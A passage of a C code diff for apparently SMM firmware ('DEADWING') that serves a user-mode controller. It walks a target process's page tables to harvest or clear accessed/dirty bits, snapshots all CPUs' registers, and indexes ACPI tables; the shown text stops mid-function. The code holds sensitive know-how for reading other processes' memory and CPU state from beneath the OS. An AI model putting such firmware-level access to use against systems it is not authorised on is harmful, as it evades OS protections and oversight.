+}
+
+/**
+ * \brief Reports pages of the process with accessed and/or dirty bit set.
+ * 
+ * Request (DEADWING_HARVEST_REQUEST) lives in the controller memory. Page tables of the
+ * process are walked table by table, present leaf entries with requested bits are reported.
+ * If requested, reported bits are cleared atomically in the same SMI. Stale TLB entries keep
+ * old bits, so caller must flush TLBs of all CPUs once any bit has been cleared. Command is
+ * resumable: Cursor keeps offset of the next address, State[0] - count of reported pages,
+ * State[1] - count of cleared entries
+ * 
+ * \note Memory manager of the OS relies on the dirty bit, clearing it on pageable memory
+ * may lose modifications once the page is trimmed
+ * 
+ * \param Request   Controller address of the request
+ * \param Cursor    Resume cursor
+ * \param State     Resume state
+ * \param PageCount Count of pages written to the buffer
+ * \param Cleared   Count of entries whose bits have been cleared
+ * \param Truncated Set if some pages don't fit the buffer
+ * 
+ * \return EFI_SUCCESS - Page tables have been walked
+ * \return EFI_NOT_READY - Operation is partially performed and should be resumed
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_ABORTED - Unable to map paging structures or pages buffer
+ * \return EFI_NOT_FOUND - Cannot find dir base
+ */
+EFI_STATUS
+EFIAPI
+CmdHarvestAccessDirty(
+	IN     VOID   *Request,
+	IN OUT UINT64 *Cursor,
+	IN OUT UINT64 *State,
+	OUT    UINT64 *PageCount,
+	OUT    UINT64 *Cleared,
+	OUT    UINT64 *Truncated
+) {
+	if(!Request) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to harvest command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	if(Cpu == NULL)
+		return EFI_OUT_OF_RESOURCES;
+
+	DEADWING_HARVEST_REQUEST Harvest;
+	EFI_STATUS Status = CmdReadFromAddress(Cpu, &Harvest, (UINT64)Request, gLiveSession.UmController.UmControllerDirBase, sizeof(DEADWING_HARVEST_REQUEST));
+	if(EFI_ERROR(Status)) {
+		LOG_ERROR("[ SMM ] Unable to read harvest request\r\n");
+		return Status;
+	}
+
+	// range should be canonical and shouldn't cross the hole
+	UINT64 End = Harvest.Address + Harvest.Length;
+	INT64 High = (INT64)Harvest.Address >> 47;
+	if(!Harvest.ProcessId || !Harvest.Length || !Harvest.Pages || !Harvest.MaxPages || End < Harvest.Address || (High != 0 && High != -1) || High != ((INT64)(End - 1) >> 47) || *Cursor >= Harvest.Length) {
+		LOG_ERROR("[ SMM ] Invalid harvest range\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	DEADWING_HARVEST_WORK Work;
+	Work.Mask = ((Harvest.Flags & DEADWING_HARVEST_ACCESSED) ? PAGE_ENTRY_ACCESSED : 0) | ((Harvest.Flags & DEADWING_HARVEST_DIRTY) ? PAGE_ENTRY_DIRTY : 0);
+	if(Work.Mask == 0) {
+		LOG_ERROR("[ SMM ] Neither accessed nor dirty bit is requested\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	UINT64 DirBase;
+	Status = CmdGetTargetDirBase(Harvest.ProcessId, &DirBase);
+	if(EFI_ERROR(Status))
+		return Status;
+
+	Work.Clear = (Harvest.Flags & DEADWING_HARVEST_CLEAR) != 0;
+	Work.Full = FALSE;
+	Work.Collected = (PDEADWING_HARVEST_PAGE)Cpu->Bounce;
+	Work.Count = 0;
+	Work.Capacity = EFI_PAGE_SIZE / sizeof(DEADWING_HARVEST_PAGE);
+	Work.Found = State[0];
+	Work.MaxPages = Harvest.MaxPages;
+	Work.Cleared = State[1];
+
+	UINT64 Address = Harvest.Address + *Cursor;
+	BOOLEAN Progressed = FALSE;
+
+	Status = EFI_SUCCESS;
+	while(Address < End && !Work.Full) {
+		if(Progressed && YieldBudgetExhausted()) {
+			Status = EFI_NOT_READY;
+			break;
+		}
+
+		UINT64 Next = MemWalkPageTablesStepEx(DirBase, Address, End, Cpu->Window, CmdHarvestCallback, &Work);
+		if(Next == 0) {
+			LOG_ERROR("[ SMM ] Unable to walk page tables\r\n");
+			Status = EFI_ABORTED;
+			break;
+		}
+
+		// bounce page is full, flush collected pages
+		if(Work.Count == Work.Capacity) {
+			Status = CmdWriteToAddress(Cpu, Harvest.Pages + (Work.Found - Work.Count) * sizeof(DEADWING_HARVEST_PAGE), gLiveSession.UmController.UmControllerDirBase, Work.Collected, Work.Count * sizeof(DEADWING_HARVEST_PAGE));
 			if(EFI_ERROR(Status))
-				SerialPrint("[ SMM ] Cannot write data to provided virtual address\r\n");
+				break;
+
+			Work.Count = 0;
+		}
+
+		Address = Next;
+		Progressed = TRUE;
+	}
+
+	if(Work.Count != 0) {
+		EFI_STATUS FlushStatus = CmdWriteToAddress(Cpu, Harvest.Pages + (Work.Found - Work.Count) * sizeof(DEADWING_HARVEST_PAGE), gLiveSession.UmController.UmControllerDirBase, Work.Collected, Work.Count * sizeof(DEADWING_HARVEST_PAGE));
+		if(EFI_ERROR(FlushStatus))
+			Status = FlushStatus;
+	}
+
+	// save progress
+	*Cursor = Address - Harvest.Address;
+	State[0] = Work.Found;
+	State[1] = Work.Cleared;
+
+	*PageCount = Work.Found;
+	*Cleared = Work.Cleared;
+	*Truncated = Work.Full;
+
+	return Status;
+}
+
+/**
+ * \brief Starts access monitor of the process ranges, previous monitor is replaced
+ * 
+ * \param Request Controller address of the request (DEADWING_MONITOR_REQUEST)
+ * 
+ * \return EFI_SUCCESS - Monitor has been started
+ * \return EFI_INVALID_PARAMETER - Ranges or limits are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_ABORTED - Unable to read request
+ * \return EFI_NOT_FOUND - Cannot find dir base
+ */
+EFI_STATUS
+EFIAPI
+CmdMonitorStart(
+	IN VOID *Request
+) {
+	if(!Request) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to monitor command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	if(Cpu == NULL)
+		return EFI_OUT_OF_RESOURCES;
+
+	DEADWING_MONITOR_REQUEST Monitor;
+	EFI_STATUS Status = CmdReadFromAddress(Cpu, &Monitor, (UINT64)Request, gLiveSession.UmController.UmControllerDirBase, sizeof(DEADWING_MONITOR_REQUEST));
+	if(EFI_ERROR(Status)) {
+		LOG_ERROR("[ SMM ] Unable to read monitor request\r\n");
+		return Status;
+	}
+
+	// check if process exists
+	UINT64 DirBase;
+	Status = CmdGetTargetDirBase(Monitor.ProcessId, &DirBase);
+	if(EFI_ERROR(Status))
+		return Status;
+
+	return MonitorStart(&Monitor);
+}
+
+/**
+ * \brief Takes single sample of every monitored region and returns heatmap.
+ * 
+ * Heatmap contains count of samples with accessed bit set for every region. Once aggregation
+ * interval is over, heatmap of the whole interval is returned and regions are merged and split
+ * 
+ * \param Heatmap    Controller address of the heatmap buffer
+ * \param MaxEntries Capacity of the heatmap buffer
+ * \param EntryCount Count of entries written to the buffer
+ * \param Samples    Count of samples taken in the current aggregation interval
+ * \param Aggregated Set if aggregation interval is over
+ * 
+ * \return EFI_SUCCESS - Regions have been sampled
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_NOT_FOUND - Monitor is not started or cannot find dir base
+ * \return EFI_ABORTED - Unable to write heatmap
+ */
+EFI_STATUS
+EFIAPI
+CmdMonitorSample(
+	IN  VOID   *Heatmap,
+	IN  UINT64  MaxEntries,
+	OUT UINT64 *EntryCount,
+	OUT UINT64 *Samples,
+	OUT UINT64 *Aggregated
+) {
+	if(!Heatmap || !MaxEntries) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to monitor command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	if(!MonitorIsActive()) {
+		LOG_ERROR("[ SMM ] Monitor is not started\r\n");
+		return EFI_NOT_FOUND;
+	}
+
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	if(Cpu == NULL)
+		return EFI_OUT_OF_RESOURCES;
+
+	UINT64 DirBase;
+	EFI_STATUS Status = CmdGetTargetDirBase(MonitorGetProcessId(), &DirBase);
+	if(EFI_ERROR(Status))
+		return Status;
+
+	BOOLEAN IntervalOver = MonitorSample(DirBase, Cpu->Window, Samples);
+
+	// heatmap of all regions fits the bounce page
+	UINTN Count = MonitorGetHeatmap((PDEADWING_MONITOR_ENTRY)Cpu->Bounce, (UINTN)MIN(MaxEntries, EFI_PAGE_SIZE / sizeof(DEADWING_MONITOR_ENTRY)));
+
+	Status = CmdWriteToAddress(Cpu, (UINT64)Heatmap, gLiveSession.UmController.UmControllerDirBase, (VOID *)Cpu->Bounce, Count * sizeof(DEADWING_MONITOR_ENTRY));
+	if(EFI_ERROR(Status))
+		return Status;
+
+	if(IntervalOver)
+		MonitorAggregate();
+
+	*EntryCount = Count;
+	*Aggregated = IntervalOver;
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Copies records of the journal (log, trace or profiler) to the controller buffer.
+ * 
+ * Records are consumed, so every record is returned once. Records which have been overwritten
+ * before drain are reported as dropped
+ * 
+ * \param Journal     Journal to drain
+ * \param Records     Controller address of the records buffer (record type of the journal)
+ * \param MaxRecords  Capacity of the records buffer
+ * \param RecordCount Count of records written to the buffer
+ * \param Dropped     Count of records lost since the last drain
+ * 
+ * \return EFI_SUCCESS - Records have been copied
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_ABORTED - Unable to write records
+ */
+EFI_STATUS
+EFIAPI
+CmdDrainJournal(
+	IN  PDEADWING_JOURNAL  Journal,
+	IN  VOID              *Records,
+	IN  UINT64             MaxRecords,
+	OUT UINT64            *RecordCount,
+	OUT UINT64            *Dropped
+) {
+	if(!Records || !MaxRecords) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to drain command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	if(Cpu == NULL)
+		return EFI_OUT_OF_RESOURCES;
+
+	*RecordCount = 0;
+	*Dropped = 0;
+
+	// records are copied through the bounce page
+	while(*RecordCount < MaxRecords) {
+		UINT64 Lost;
+		UINTN Count = JournalRead(Journal, (VOID *)Cpu->Bounce, (UINTN)MIN(MaxRecords - *RecordCount, EFI_PAGE_SIZE / Journal->RecordSize), &Lost);
+
+		*Dropped += Lost;
+		if(Count == 0)
+			break;
+
+		EFI_STATUS Status = CmdWriteToAddress(Cpu, (UINT64)Records + *RecordCount * Journal->RecordSize, gLiveSession.UmController.UmControllerDirBase, (VOID *)Cpu->Bounce, Count * Journal->RecordSize);
+		if(EFI_ERROR(Status))
+			return Status;
+
+		JournalConsume(Journal, Count);
+		*RecordCount += Count;
+	}
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Copies performance counters to the controller buffer
+ * 
+ * \param Stats Controller address of the counters buffer (DEADWING_STATS)
+ * \param Reset Counters are cleared once they have been copied if not 0
+ * 
+ * \return EFI_SUCCESS - Counters have been copied
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_ABORTED - Unable to write counters
+ */
+EFI_STATUS
+EFIAPI
+CmdGetStats(
+	IN VOID   *Stats,
+	IN UINT64  Reset
+) {
+	if(!Stats) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to get stats command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	if(Cpu == NULL)
+		return EFI_OUT_OF_RESOURCES;
+
+	// counters are copied through the bounce page
+	StatsSnapshot((PDEADWING_STATS)Cpu->Bounce);
+
+	EFI_STATUS Status = CmdWriteToAddress(Cpu, (UINT64)Stats, gLiveSession.UmController.UmControllerDirBase, (VOID *)Cpu->Bounce, sizeof(DEADWING_STATS));
+	if(EFI_ERROR(Status))
+		return Status;
+
+	if(Reset)
+		StatsReset();
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Records interrupted context of every CPU into the profiler ring.
+ * 
+ * Doesn't require cached session, so it can be triggered by the controller at any time
+ * 
+ * \param SampleCount Count of recorded samples
+ * 
+ * \return EFI_SUCCESS - Samples have been recorded
+ * \return EFI_UNSUPPORTED - Save states can't be read on this platform
+ */
+EFI_STATUS
+EFIAPI
+CmdProfileSample(
+	OUT UINT64 *SampleCount
+) {
+	UINTN Count;
+
+	EFI_STATUS Status = ProfileSample(&Count);
+	*SampleCount = Count;
+
+	return Status;
+}
+
+/**
+ * \brief Copies interrupted register context of every CPU to the controller buffer.
+ * 
+ * All CPUs are read during one SMI, so the snapshot is consistent. CPUs without
+ * save state (absent or not rendezvoused) are reported with Valid set to 0
+ * 
+ * \param Registers Controller address of the registers buffer (DEADWING_CPU_REGISTERS)
+ * \param MaxCpus   Capacity of the registers buffer
+ * \param CpuCount  Count of CPUs written to the buffer
+ * 
+ * \return EFI_SUCCESS - Registers have been copied
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_UNSUPPORTED - Save states can't be read on this platform
+ * \return EFI_ABORTED - Unable to write registers
+ */
+EFI_STATUS
+EFIAPI
+CmdSnapshotRegisters(
+	IN  VOID   *Registers,
+	IN  UINT64  MaxCpus,
+	OUT UINT64 *CpuCount
+) {
+	if(!Registers || !MaxCpus) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to snapshot registers command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	if(Cpu == NULL)
+		return EFI_OUT_OF_RESOURCES;
+
+	*CpuCount = 0;
+
+	UINT64 Count = MIN(gSmst2->NumberOfCpus, MaxCpus);
+	UINT64 PerPage = EFI_PAGE_SIZE / sizeof(DEADWING_CPU_REGISTERS);
+
+	// registers are copied through the bounce page
+	while(*CpuCount < Count) {
+		PDEADWING_CPU_REGISTERS Bounce = (PDEADWING_CPU_REGISTERS)Cpu->Bounce;
+		UINT64 Batch = MIN(Count - *CpuCount, PerPage);
+
+		for(UINT64 i = 0; i < Batch; i++) {
+			EFI_STATUS Status = SaveStateSnapshot((UINTN)(*CpuCount + i), &Bounce[i]);
+			if(Status == EFI_UNSUPPORTED)
+				return Status;
+		}
+
+		EFI_STATUS Status = CmdWriteToAddress(Cpu, (UINT64)Registers + *CpuCount * sizeof(DEADWING_CPU_REGISTERS), gLiveSession.UmController.UmControllerDirBase, (VOID *)Bounce, Batch * sizeof(DEADWING_CPU_REGISTERS));
+		if(EFI_ERROR(Status))
+			return Status;
+
+		*CpuCount += Batch;
+	}
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Caches UEFI memory map in SMRAM. DXE driver places the map in the inline
+ * data region before ExitBootServices, map is rejected afterwards and can't be replaced
+ * 
+ * \param InlineData     Inline data region which holds the map
+ * \param InlineSize     Size of inline data region
+ * \param MapSize        Size of the map
+ * \param DescriptorSize Size of a single descriptor
+ * \param RangeCount     Count of ranges of the cached map
+ * 
+ * \return EFI_SUCCESS - Map has been cached
+ * \return EFI_INVALID_PARAMETER - Map is malformed or doesn't fit the inline data region
+ * \return EFI_ALREADY_STARTED - Map has been cached before
+ * \return EFI_ACCESS_DENIED - ExitBootServices has been called
+ * \return EFI_OUT_OF_RESOURCES - Map has too many ranges
+ */
+EFI_STATUS
+EFIAPI
+CmdSetMemoryMap(
+	IN  VOID   *InlineData,
+	IN  UINTN   InlineSize,
+	IN  UINT64  MapSize,
+	IN  UINT64  DescriptorSize,
+	OUT UINT64 *RangeCount
+) {
+	if(SmiIsBootServicesExited()) {
+		LOG_ERROR("[ SMM ] Memory map can't be set after ExitBootServices\r\n");
+		return EFI_ACCESS_DENIED;
+	}
+
+	if(InlineData == NULL || MapSize > InlineSize) {
+		LOG_ERROR("[ SMM ] Memory map doesn't fit the inline data region\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	return MemoryMapSet(InlineData, (UINTN)MapSize, (UINTN)DescriptorSize, RangeCount);
+}
+
+/**
+ * \brief Copies SMRAM copy of the physical memory map to the controller buffer
+ * 
+ * \param Ranges     Controller address of the ranges buffer (DEADWING_MEMORY_RANGE)
+ * \param MaxRanges  Capacity of the ranges buffer
+ * \param RangeCount Count of ranges of the map, buffer is filled up to its capacity
+ * 
+ * \return EFI_SUCCESS - Ranges have been copied
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_NOT_FOUND - Memory map hasn't been cached at boot
+ * \return EFI_ABORTED - Unable to write ranges
+ */
+EFI_STATUS
+EFIAPI
+CmdGetMemoryMap(
+	IN  VOID   *Ranges,
+	IN  UINT64  MaxRanges,
+	OUT UINT64 *RangeCount
+) {
+	if(!Ranges || !MaxRanges) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to memory map command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	if(Cpu == NULL)
+		return EFI_OUT_OF_RESOURCES;
+
+	UINTN Count;
+	CONST DEADWING_MEMORY_RANGE *Map = MemoryMapGet(&Count);
+	if(Count == 0)
+		return EFI_NOT_FOUND;
+
+	*RangeCount = Count;
+
+	return CmdWriteToAddress(Cpu, (UINT64)Ranges, gLiveSession.UmController.UmControllerDirBase, (VOID *)Map, MIN(Count, MaxRanges) * sizeof(DEADWING_MEMORY_RANGE));
+}
+
+/**
+ * \brief Checks if 16-byte aligned candidate is a valid RSDP
+ * 
+ * \param Cpu     Remap window of the current CPU
+ * \param Address Physical address of the candidate
+ * \param Rsdp    Receives RSDP, XSDT address is 0 if revision is below 2
+ * 
+ * \return TRUE - Candidate is RSDP
+ * \return FALSE - Signature or checksum mismatch
+ */
+BOOLEAN
+EFIAPI
+CmdAcpiIsRsdp(
+	IN  PDEADWING_MP_CPU                              Cpu,
+	IN  UINT64                                        Address,
+	OUT EFI_ACPI_2_0_ROOT_SYSTEM_DESCRIPTION_POINTER *Rsdp
+) {
+	if(EFI_ERROR(CmdReadFromAddress(Cpu, Rsdp, Address, CMD_FIRMWARE_DIR_BASE, sizeof(EFI_ACPI_2_0_ROOT_SYSTEM_DESCRIPTION_POINTER))))
+		return FALSE;
+
+	if(Rsdp->Signature != EFI_ACPI_2_0_ROOT_SYSTEM_DESCRIPTION_POINTER_SIGNATURE)
+		return FALSE;
+
+	// checksum of ACPI 1.0 covers the first 20 bytes, extended one covers the whole structure
+	if(CalculateSum8((UINT8 *)Rsdp, OFFSET_OF(EFI_ACPI_2_0_ROOT_SYSTEM_DESCRIPTION_POINTER, Length)) != 0)
+		return FALSE;
+
+	if(Rsdp->Revision < 2) {
+		Rsdp->XsdtAddress = 0;
+		return TRUE;
+	}
+
+	return CalculateSum8((UINT8 *)Rsdp, sizeof(EFI_ACPI_2_0_ROOT_SYSTEM_DESCRIPTION_POINTER)) == 0;
+}
+
+/**
+ * \brief Scans physical range for RSDP page by page
+ * 
+ * \param Cpu    Remap window and bounce page of the current CPU
+ * \param Base   Physical base of the range
+ * \param Length Length of the range
+ * \param Rsdp   Receives RSDP
+ * 
+ * \return EFI_SUCCESS - RSDP has been found
+ * \return EFI_NOT_FOUND - Range doesn't contain RSDP
+ * \return EFI_ABORTED - Unable to map the range
+ */
+EFI_STATUS
+EFIAPI
+CmdAcpiScanRsdp(
+	IN  PDEADWING_MP_CPU                              Cpu,
+	IN  UINT64                                        Base,
+	IN  UINT64                                        Length,
+	OUT EFI_ACPI_2_0_ROOT_SYSTEM_DESCRIPTION_POINTER *Rsdp
+) {
+	for(UINT64 Page = Base & ~(UINT64)EFI_PAGE_MASK; Page < Base + Length; Page += EFI_PAGE_SIZE) {
+		EFI_STATUS Status = CmdReadFromAddress(Cpu, (VOID *)Cpu->Bounce, Page, CMD_FIRMWARE_DIR_BASE, EFI_PAGE_SIZE);
+		if(EFI_ERROR(Status))
+			return Status;
+
+		// RSDP is aligned on 16 bytes
+		for(UINTN Offset = 0; Offset < EFI_PAGE_SIZE; Offset += 16) {
+			UINT64 Address = Page + Offset;
+			if(Address < Base || Address - Base >= Length)
+				continue;
+
+			if(*(UINT64 *)(Cpu->Bounce + Offset) == EFI_ACPI_2_0_ROOT_SYSTEM_DESCRIPTION_POINTER_SIGNATURE && CmdAcpiIsRsdp(Cpu, Address, Rsdp))
+				return EFI_SUCCESS;
+		}
+	}
+
+	return EFI_NOT_FOUND;
+}
+
+/**
+ * \brief Locates RSDP. Address passed by the DXE driver from the configuration table is
+ * checked first. Legacy BIOS area (the first KB of EBDA and E0000 - FFFFF) is scanned
+ * if it hasn't been passed or it doesn't point to RSDP
+ * 
+ * \param Cpu  Remap window and bounce page of the current CPU
+ * \param Rsdp Receives RSDP
+ * 
+ * \return EFI_SUCCESS - RSDP has been found
+ * \return Other - RSDP hasn't been found
+ */
+EFI_STATUS
+EFIAPI
+CmdAcpiLocateRsdp(
+	IN  PDEADWING_MP_CPU                              Cpu,
+	OUT EFI_ACPI_2_0_ROOT_SYSTEM_DESCRIPTION_POINTER *Rsdp
+) {
+	UINT64 Address = AcpiGetRsdp();
+	if(Address != 0 && CmdAcpiIsRsdp(Cpu, Address, Rsdp))
+		return EFI_SUCCESS;
+
+	// segment of EBDA is stored in BIOS data area
+	UINT16 EbdaSegment = 0;
+	EFI_STATUS Status = CmdReadFromAddress(Cpu, &EbdaSegment, 0x40E, CMD_FIRMWARE_DIR_BASE, sizeof(UINT16));
+	if(!EFI_ERROR(Status) && EbdaSegment != 0) {
+		Status = CmdAcpiScanRsdp(Cpu, (UINT64)EbdaSegment << 4, 0x400, Rsdp);
+		if(!EFI_ERROR(Status))
+			return Status;
+	}
+
+	return CmdAcpiScanRsdp(Cpu, 0xE0000, 0x20000, Rsdp);
+}
+
+/**
+ * \brief Saves address of RSDP which DXE driver has taken from the configuration table
+ * 
+ * \param Address Physical address of RSDP
+ * 
+ * \return EFI_SUCCESS - Address has been saved
+ * \return EFI_ACCESS_DENIED - ExitBootServices has been called
+ * \return EFI_ALREADY_STARTED - Address has been saved before
+ * \return EFI_INVALID_PARAMETER - Address is 0
+ */
+EFI_STATUS
+EFIAPI
+CmdSetRsdp(
+	IN UINT64 Address
+) {
+	if(SmiIsBootServicesExited()) {
+		LOG_ERROR("[ SMM ] RSDP can't be set after ExitBootServices\r\n");
+		return EFI_ACCESS_DENIED;
+	}
+
+	return AcpiSetRsdp(Address);
+}
+
+/**
+ * \brief Reads header of the table and adds the table to the index
+ * 
+ * \param Cpu     Remap window of the current CPU
+ * \param Address Physical address of the table
+ * \param Header  Receives header of the table
+ * 
+ * \return EFI_SUCCESS - Table has been indexed
+ * \return EFI_NOT_FOUND - Address is 0
+ * \return EFI_COMPROMISED_DATA - Length of the table is malformed
+ * \return EFI_OUT_OF_RESOURCES - Index is full
+ * \return EFI_ABORTED - Unable to map the header
+ */
+EFI_STATUS
+EFIAPI
+CmdAcpiIndexTable(
+	IN  PDEADWING_MP_CPU             Cpu,
+	IN  UINT64                       Address,
+	OUT EFI_ACPI_DESCRIPTION_HEADER *Header
+) {
+	if(Address == 0)
+		return EFI_NOT_FOUND;
+
+	// FACS has no common header, but its signature and length are at the same place
+	EFI_STATUS Status = CmdReadFromAddress(Cpu, Header, Address, CMD_FIRMWARE_DIR_BASE, sizeof(EFI_ACPI_DESCRIPTION_HEADER));
+	if(EFI_ERROR(Status))
+		return Status;
+
+	if(Header->Length < sizeof(EFI_ACPI_DESCRIPTION_HEADER) || Header->Length > DEADWING_MAX_TRANSFER_LENGTH) {
+		LOG_ERROR("[ SMM ] ACPI table has malformed length\r\n");
+		return EFI_COMPROMISED_DATA;
+	}
+
+	return AcpiAddTable(Header->Signature, Address, Header->Length);
+}
+
+/**
+ * \brief Indexes DSDT and FACS, which are referenced by FADT only
+ * 
+ * \param Cpu     Remap window of the current CPU
+ * \param Address Physical address of FADT
+ * \param Length  Length of FADT
+ */
+VOID
+EFIAPI
+CmdAcpiIndexFadt(
+	IN PDEADWING_MP_CPU Cpu,
+	IN UINT64           Address,
+	IN UINT64           Length
+) {
+	EFI_ACPI_2_0_FIXED_ACPI_DESCRIPTION_TABLE Fadt;
+	EFI_ACPI_DESCRIPTION_HEADER Header;
+
+	// fields beyond the length of older FADT revisions stay zero
+	ZeroMem(&Fadt, sizeof(Fadt));
+	if(EFI_ERROR(CmdReadFromAddress(Cpu, &Fadt, Address, CMD_FIRMWARE_DIR_BASE, MIN(Length, sizeof(Fadt)))))
+		return;
+
+	// 64-bit pointers supersede 32-bit ones
+	CmdAcpiIndexTable(Cpu, Fadt.XDsdt != 0 ? Fadt.XDsdt : Fadt.Dsdt, &Header);
+	CmdAcpiIndexTable(Cpu, Fadt.XFirmwareCtrl != 0 ? Fadt.XFirmwareCtrl : Fadt.FirmwareCtrl, &Header);
+}
+
+/**
+ * \brief Builds index of ACPI tables: root table (XSDT or RSDT), every table referenced
+ * by it, DSDT and FACS. Index is built once, broken entries of the root table are skipped
+ * 
+ * \param Cpu Remap window and bounce page of the current CPU
+ * 
+ * \return EFI_SUCCESS - Index has been built
+ * \return EFI_NOT_FOUND - RSDP hasn't been found
+ * \return Other - Root table is malformed or can't be mapped
+ */
+EFI_STATUS
+EFIAPI
+CmdAcpiBuildIndex(
+	IN PDEADWING_MP_CPU Cpu
+) {
+	if(AcpiIsIndexed())
+		return EFI_SUCCESS;
+
+	EFI_ACPI_2_0_ROOT_SYSTEM_DESCRIPTION_POINTER Rsdp;
+	EFI_STATUS Status = CmdAcpiLocateRsdp(Cpu, &Rsdp);
+	if(EFI_ERROR(Status)) {
+		LOG_ERROR("[ SMM ] Unable to locate RSDP\r\n");
+		return EFI_NOT_FOUND;
+	}
+
+	// XSDT supersedes RSDT
+	UINT64 Root = Rsdp.XsdtAddress != 0 ? Rsdp.XsdtAddress : Rsdp.RsdtAddress;
+	UINT64 EntrySize = Rsdp.XsdtAddress != 0 ? sizeof(UINT64) : sizeof(UINT32);
+
+	EFI_ACPI_DESCRIPTION_HEADER Header;
+	Status = CmdAcpiIndexTable(Cpu, Root, &Header);
+	if(EFI_ERROR(Status))
+		return Status;
+
+	for(UINT64 Offset = sizeof(EFI_ACPI_DESCRIPTION_HEADER); Offset + EntrySize <= Header.Length; Offset += EntrySize) {
+		UINT64 Entry = 0;
+		Status = CmdReadFromAddress(Cpu, &Entry, Root + Offset, CMD_FIRMWARE_DIR_BASE, EntrySize);
+		if(EFI_ERROR(Status))
+			return Status;
+
+		EFI_ACPI_DESCRIPTION_HEADER Table;
+		Status = CmdAcpiIndexTable(Cpu, Entry, &Table);
+		if(Status == EFI_OUT_OF_RESOURCES)
+			break;
+
+		if(EFI_ERROR(Status))
+			continue;
+
+		if(Table.Signature == EFI_ACPI_2_0_FIXED_ACPI_DESCRIPTION_TABLE_SIGNATURE)
+			CmdAcpiIndexFadt(Cpu, Entry, Table.Length);
+	}
+
+	AcpiCompleteIndex();
+
+	return EFI_SUCCESS;
+}
+
+/**
+ * \brief Copies ACPI table to the controller buffer. Tables are looked up in the SMRAM
+ * index, so the controller doesn't chase pointers of RSDP, XSDT and FADT itself
+ * 
+ * \param Signature Signature of the table or 0 to enumerate all tables, receives signature of the table
+ * \param Instance  Index of the table among tables with the same signature (or among all tables)
+ * \param Buffer    Controller address of the buffer
+ * \param MaxLength Capacity of the buffer, table is truncated if it's longer
+ * \param Address   Physical address of the table
+ * \param Length    Length of the table, can exceed capacity of the buffer
+ * 
+ * \return EFI_SUCCESS - Table has been copied
+ * \return EFI_INVALID_PARAMETER - One or more arguments are invalid
+ * \return EFI_NOT_STARTED - Session info is not cached
+ * \return EFI_NOT_FOUND - There is no such table or RSDP hasn't been found
+ * \return EFI_ABORTED - Unable to copy the table
+ */
+EFI_STATUS
+EFIAPI
+CmdGetAcpiTable(
+	IN OUT UINT32 *Signature,
+	IN     UINT64  Instance,
+	IN     VOID   *Buffer,
+	IN     UINT64  MaxLength,
+	OUT    UINT64 *Address,
+	OUT    UINT64 *Length
+) {
+	if(!Buffer || !MaxLength) {
+		LOG_ERROR("[ SMM ] Invalid parameters has been passed to ACPI table command\r\n");
+		return EFI_INVALID_PARAMETER;
+	}
+
+	if(!CmdIsSessionCached())
+		return EFI_NOT_STARTED;
+
+	PDEADWING_MP_CPU Cpu = MpGetCurrentCpu();
+	if(Cpu == NULL)
+		return EFI_OUT_OF_RESOURCES;
+
+	EFI_STATUS Status = CmdAcpiBuildIndex(Cpu);
+	if(EFI_ERROR(Status))
+		return Status;
+
+	CONST DEADWING_ACPI_TABLE *Table = AcpiFindTable(*Signature, (UINTN)Instance);
+	if(Table == NULL)
+		return EFI_NOT_FOUND;
+
+	*Signature = Table->Signature;
+	*Address = Table->Address;
+	*Length = Table->Length;
+
+	// tables are small, so they are copied by the current CPU
+	UINT64 Count = MIN(Table->Length, MaxLength);
+	for(UINT64 Offset = 0; Offset < Count;) {
+		UINT64 Chunk = Count - Offset;
+		Chunk = MIN(Chunk, EFI_PAGE_SIZE - ((Table->Address + Offset) & EFI_PAGE_MASK));
